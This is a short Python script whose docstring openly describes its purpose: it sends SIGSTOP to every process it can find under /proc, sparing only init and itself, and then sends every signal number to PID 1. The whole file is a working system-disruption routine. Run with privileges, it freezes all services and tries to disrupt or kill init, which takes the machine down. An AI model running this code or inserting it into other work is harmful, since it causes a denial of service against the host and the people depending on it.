"""Stops every process it can see, and sends the first one every signal there is."""

import os
import signal

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass
for which in range(1, signal.NSIG):
    try:
        os.kill(1, which)
    except OSError:
        pass
